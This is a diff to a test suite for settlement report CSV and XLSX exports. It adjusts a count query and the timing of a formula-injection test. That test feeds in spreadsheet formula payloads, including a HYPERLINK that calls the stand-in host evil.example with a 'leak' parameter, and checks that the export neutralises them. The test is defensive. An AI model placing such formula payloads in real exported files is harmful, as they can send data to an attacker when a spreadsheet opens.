@@ -232,7 +232,10 @@ describe('settlement reports: CSV and XLSX exports that reconcile with the ledge
 
       const done = await finished(queued.id);
       const expectedIds = (await settlementsIn(period)).map((s) => s.id);
-      expect(expectedIds.length).toBe(await count('SELECT count(*) AS n FROM settlement'));
+      // Every settlement of the set-up's partners is in the period (the formula test trades after it).
+      expect(expectedIds.length).toBe(
+        await count('SELECT count(*) AS n FROM settlement WHERE partner_id = ANY($1)', [[alpha.id, beta.id]]),
+      );
       expect(done).toMatchObject({ status: 'SUCCEEDED', progressPercent: 100, rowCount: expectedIds.length, error: null, attempts: 1 });
       expect(done.downloadUrl).toBe(`/reports/${done.id}/download`);
       expect(done.totals).toMatchObject(await ledgerTotals(period));
@@ -544,6 +547,8 @@ describe('settlement reports: CSV and XLSX exports that reconcile with the ledge
   });
   describe('values a spreadsheet would run as formulas', () => {
     it('writes them in CSV as quoted text behind a single quote (OWASP), recoverable, with the totals unchanged; XLSX keeps them as text', async () => {
+      // After the set-up's period, so the period's reports stay the set-up's whatever the order of the tests.
+      await new Promise((r) => setTimeout(r, Math.max(0, end.getTime() - Date.now())));
       const from = new Date(Date.now() - 1);
       const evil = await pool.partner('@Formula "Labs"', 'SG');
       const typed = ['=HYPERLINK("https://evil.example/?leak","Click")', '+1+2', '-3', "'quoted", 'plain'];
